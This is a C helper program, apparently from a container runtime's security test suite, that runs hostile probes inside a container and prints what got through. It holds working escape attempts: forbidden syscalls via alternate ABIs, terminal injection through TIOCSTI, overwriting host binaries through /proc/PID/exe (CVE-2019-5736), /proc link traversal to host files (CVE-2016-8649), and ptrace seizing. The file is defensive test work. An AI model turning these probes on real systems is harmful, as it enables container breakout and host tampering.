/*
 * What the attack tests run inside containers: hostile COMMAND [ARGS...]. Each command tries something and prints what it
 * got; the tests judge. Commands that race run until they are killed, and print at once what got through.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <linux/openat2.h>
#include <pthread.h>
#include <signal.h>
#include <spawn.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

extern char **environ;

enum abi { NATIVE, X32, I386, ABI_COUNT };
static const char *const abi_names[] = { "native", "x32", "i386" };

/* A call by number through one of the kernel's doors; -errno, or -ENOSYS where this machine has no such door. */
static long call(enum abi abi, long nr, long a, long b, long c)
{
#if defined(__x86_64__)
	long r;

	if (abi == I386) {
		__asm__ volatile("int $0x80"
				 : "=a"(r)
				 : "a"(nr), "b"(a), "c"(b), "d"(c), "S"(-1L), "D"(-1L)
				 : "memory", "r8", "r9", "r10", "r11");
		return (int)r;
	}
	register long r10 __asm__("r10") = -1, r8 __asm__("r8") = -1, r9 __asm__("r9") = -1;

	__asm__ volatile("syscall"
			 : "=a"(r)
			 : "a"(abi == X32 ? nr | 0x40000000 : nr), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9)
			 : "memory", "rcx", "r11");
	return r;
#else
	long r = abi == NATIVE ? syscall(nr, a, b, c, -1L, -1L, -1L) : -1;

	return r < 0 ? -(abi == NATIVE ? errno : ENOSYS) : r;
#endif
}

#if defined(__x86_64__)
#define NR(name, i386) { #name, SYS_##name, i386 }
#else
#define NR(name, i386) { #name, SYS_##name, -1 }
#endif

/* Calls no container needs. Junk arguments: one that got past the filter fails in another way, and does no harm. */
static const struct {
	const char *name;
	long nr, i386;
} calls[] = {
	NR(io_uring_setup, 425), NR(io_uring_enter, 426), NR(io_uring_register, 427), NR(bpf, 357),
	NR(userfaultfd, 374), NR(perf_event_open, 336), NR(process_vm_readv, 347), NR(process_vm_writev, 348),
	NR(kcmp, 349), NR(open_by_handle_at, 342), NR(kexec_load, 283), NR(init_module, 128), NR(delete_module, 129),
	NR(finit_module, 350), NR(quotactl, 131), NR(acct, 51), NR(swapon, 87), NR(swapoff, 115), NR(settimeofday, 79),
	NR(clock_settime, 264), NR(add_key, 286), NR(request_key, 287), NR(keyctl, 288), NR(mount, 21), NR(umount2, 52),
	NR(pivot_root, 217), NR(fsopen, 430), NR(fsconfig, 431), NR(fsmount, 432), NR(fspick, 433),
	NR(move_mount, 429), NR(open_tree, 428), NR(mount_setattr, 442), NR(setns, 346), NR(clone3, 435),
	{ "statmount", 457, 457 }, { "listmount", 458, 458 }, { "open_tree_attr", 467, 467 },
};

/* calls: `ABI NAME ERRNO` a line */
static int do_calls(char **args)
{
	(void)args;
	for (int abi = 0; abi < ABI_COUNT; abi++)
		for (size_t i = 0; i < sizeof(calls) / sizeof(calls[0]); i++)
			if (abi != I386 || calls[i].i386 >= 0)
				printf("%s %s %ld\n", abi_names[abi], calls[i].name,
				       -call(abi, abi == I386 ? calls[i].i386 : calls[i].nr, -1, -1, -1));
	return 0;
}

/* sockets: the families that any door, type and high half of the register lets through */
static int do_sockets(char **args)
{
	static const uint64_t high[] = { 0, 1ULL << 32, 0xffffffffULL << 32, 1ULL << 63 };

	(void)args;
	for (long family = 0; family <= 64; family++) {
		int through = 0;

		for (int abi = 0; abi < ABI_COUNT; abi++)
			for (int type = 1; type <= 5; type++)
				for (size_t i = 0; i < sizeof(high) / sizeof(high[0]); i++) {
					long r = call(abi, abi == I386 ? 359 : SYS_socket, (long)(high[i] | (uint64_t)family), type, 0);

					if (r >= 0)
						close((int)r);
					through |= r != -EAFNOSUPPORT && r != -ENOSYS;
				}
		if (through)
			printf("%ld ", family);
	}
	printf("\n");
	return 0;
}

/* suspend: ptrace a child so that its filter sleeps; prints the errno of each door */
static int do_suspend(char **args)
{
	const long suspend = 1 << 21, seize = 0x4206;
	pid_t child = fork();

	(void)args;
	if (child == 0)
		for (;;)
			pause();
	long native = syscall(SYS_ptrace, seize, (long)child, 0L, suspend);

	printf("%d\n", native < 0 ? errno : 0);
	kill(child, SIGKILL);
	waitpid(child, NULL, 0);
	return 0;
}

static void *nothing(void *argument)
{
	return argument;
}

/* libc: what a C library of today falls back from */
static int do_libc(char **args)
{
	char *const argv[] = { "/bin/true", NULL };
	struct open_how how = { .flags = O_RDONLY };
	struct statx st;
	pthread_t thread;
	pid_t pid;
	int status = -1;

	(void)args;
	printf("threads %d\n", pthread_create(&thread, NULL, nothing, NULL) == 0 && pthread_join(thread, NULL) == 0);
	printf("spawn %d\n", posix_spawn(&pid, argv[0], NULL, NULL, argv, environ) == 0 && waitpid(pid, &status, 0) == pid && status == 0);
	printf("faccessat2 %d\n", syscall(SYS_faccessat2, AT_FDCWD, "/", R_OK, AT_EACCESS) == 0);
	printf("openat2 %d\n", syscall(SYS_openat2, AT_FDCWD, "/", &how, sizeof(how)) >= 0);
	printf("statx %d\n", statx(AT_FDCWD, "/", 0, STATX_BASIC_STATS, &st) == 0);
	return 0;
}

/* typing: put a character into whatever terminal there is; prints what got through */
static int do_typing(char **args)
{
	static const unsigned long requests[] = { 0x5412, 0x541c, 0x5412UL | 1UL << 32, 0x541cUL | 0xffffffffUL << 32 };
	int tty = open("/dev/tty", O_RDWR);

	(void)args;
	for (int fd = 0; fd < 16; fd++)
		for (size_t i = 0; i < sizeof(requests) / sizeof(requests[0]); i++)
			if (call(NATIVE, SYS_ioctl, fd, (long)requests[i], (long)"x") >= 0)
				printf("TYPED through %d by %lx\n", fd, requests[i]);
	printf("tty %s\n", tty >= 0 ? "open" : "none");
	return 0;
}

/* swap A B: exchanges two names for ever */
static int do_swap(char **args)
{
	for (;;)
		if (syscall(SYS_renameat2, AT_FDCWD, args[0], AT_FDCWD, args[1], 2) < 0)
			return 1;
}

/* A link of every other process, as /proc/PID/NAME: @with gets each. */
static void each_process(void (*with)(const char *process, void *data), void *data)
{
	DIR *proc = opendir("/proc");
	const struct dirent *entry;

	while (proc && (entry = readdir(proc)) != NULL) {
		char path[32];
		long pid = strtol(entry->d_name, NULL, 10);

		if (pid <= 1 || pid == getpid())
			continue;
		snprintf(path, sizeof(path), "/proc/%ld", pid);
		with(path, data);
	}
	if (proc)
		closedir(proc);
}

/* Whether that is a program of the container's own, which it may do with as it likes. */
static int is_own(int fd)
{
	static const char *const names[] = { "/bin/busybox", "/proc/self/exe" };
	struct stat st, own;

	if (fstat(fd, &st) < 0)
		return 1;
	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++)
		if (stat(names[i], &own) == 0 && own.st_dev == st.st_dev && own.st_ino == st.st_ino)
			return 1;
	return 0;
}

/* Says so once for each number: the same descriptors come with every process. */
static void say_seen(long number)
{
	static char said[1024];

	if (number > 2 && number < (long)sizeof(said) && !said[number]) {
		said[number] = 1;
		printf("SEEN %ld\n", number);
	}
}

static void overwrite_one(const char *process, void *data)
{
	struct mount_attr attr = { .attr_clr = MOUNT_ATTR_RDONLY };
	char path[64], again[64];
	int seen, fd;

	(void)data;
	snprintf(path, sizeof(path), "%s/exe", process);
	seen = open(path, O_PATH);
	if (seen < 0)
		return;
	if (!is_own(seen)) {
		say_seen(3);
		snprintf(again, sizeof(again), "/proc/self/fd/%d", seen);
		if (syscall(SYS_mount_setattr, seen, "", AT_EMPTY_PATH, &attr, sizeof(attr)) == 0)
			printf("REMOUNTED %s\n", path);
		/* While the program runs its file is busy; a moment later it is not. */
		for (int i = 0; i < 200; i++) {
			fd = open(again, O_WRONLY);
			if (fd >= 0 || (errno != ETXTBSY && i > 20))
				break;
		}
		if (fd >= 0)
			printf("OPENED %s FOR WRITING, %zd bytes\n", path, write(fd, "#!/bin/false\n", 13));
	}
	close(seen);
}

/* overwrite: open the program of each other process for writing (CVE-2019-5736) */
static int do_overwrite(char **args)
{
	while (args != NULL)
		each_process(overwrite_one, NULL);
	return 0;
}

/* Tries to come from a link of a process to a file of the host: below it, and up and down again. */
static void try_link(const char *link, const char *secret)
{
	static const char *const ways[] = { "", "/../../../../../../../../../../../.." };
	static int leaks;
	char path[4096];

	for (size_t i = 0; i < sizeof(ways) / sizeof(ways[0]) && leaks < 20; i++) {
		snprintf(path, sizeof(path), "%s%s%s", link, ways[i], secret);
		if (access(path, F_OK) == 0) {
			printf("LEAK %s\n", path);
			leaks++;
		}
	}
}

static void sample_one(const char *process, void *data)
{
	static const char *const links[] = { "cwd", "root", "exe" };
	const struct dirent *entry;
	char path[300];
	DIR *fds;

	for (size_t i = 0; i < sizeof(links) / sizeof(links[0]); i++) {
		snprintf(path, sizeof(path), "%s/%s", process, links[i]);
		try_link(path, data);
	}
	snprintf(path, sizeof(path), "%s/fd", process);
	fds = opendir(path);
	while (fds && (entry = readdir(fds)) != NULL) {
		say_seen(strtol(entry->d_name, NULL, 10));
		snprintf(path, sizeof(path), "%s/fd/%s", process, entry->d_name);
		try_link(path, data);
	}
	if (fds)
		closedir(fds);
}

/* sample FILE: look for a way to a file of the host through every process that arrives (CVE-2016-8649) */
static int do_sample(char **args)
{
	while (args != NULL)
		each_process(sample_one, args[0]);
	return 0;
}

/* seize FIRST LAST: trace processes by number; prints those that let it */
static int do_seize(char **args)
{
	for (long pid = strtol(args[0], NULL, 10); pid <= strtol(args[1], NULL, 10); pid++)
		if (pid != getpid() && ptrace(PTRACE_SEIZE, (pid_t)pid, NULL, NULL) == 0)
			printf("TRACED %ld\n", pid);
	return 0;
}

/* poke SOCKET: as a client of a monitor, ask it to kill its container; prints what it answers */
static int do_poke(char **args)
{
	static const uint8_t hello[] = { 1, 0, 4, 0, 0, 0, 0, 0 }, kill_it[] = { 5, 0, 4, 0, 9, 0, 0, 0 };
	struct sockaddr_un address = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);
	uint8_t answer[64];

	snprintf(address.sun_path, sizeof(address.sun_path), "%s", args[0]);
	if (connect(fd, (struct sockaddr *)&address, sizeof(address)) < 0) {
		printf("refused: %s\n", strerror(errno));
		return 0;
	}
	if (send(fd, hello, sizeof(hello), MSG_NOSIGNAL) < 0 || send(fd, kill_it, sizeof(kill_it), MSG_NOSIGNAL) < 0)
		printf("dropped\n");
	else
		printf("%s\n", recv(fd, answer, sizeof(answer), 0) > 0 ? "ANSWERED" : "dropped");
	return 0;
}

/* whoami: the effective user */
static int do_whoami(char **args)
{
	(void)args;
	printf("%d\n", (int)geteuid());
	return 0;
}

int main(int argc, char **argv)
{
	static const struct {
		const char *name;
		int args;
		int (*run)(char **args);
	} commands[] = {
		{ "calls", 0, do_calls },   { "sockets", 0, do_sockets }, { "suspend", 0, do_suspend },
		{ "libc", 0, do_libc },	    { "typing", 0, do_typing },	  { "swap", 2, do_swap },
		{ "overwrite", 0, do_overwrite }, { "sample", 1, do_sample }, { "seize", 2, do_seize },
		{ "poke", 1, do_poke },	    { "whoami", 0, do_whoami },
	};

	setvbuf(stdout, NULL, _IOLBF, 0);
	for (size_t i = 0; argc > 1 && i < sizeof(commands) / sizeof(commands[0]); i++)
		if (strcmp(argv[1], commands[i].name) == 0 && argc == 2 + commands[i].args)
			return commands[i].run(argv + 2);
	return 64;
}
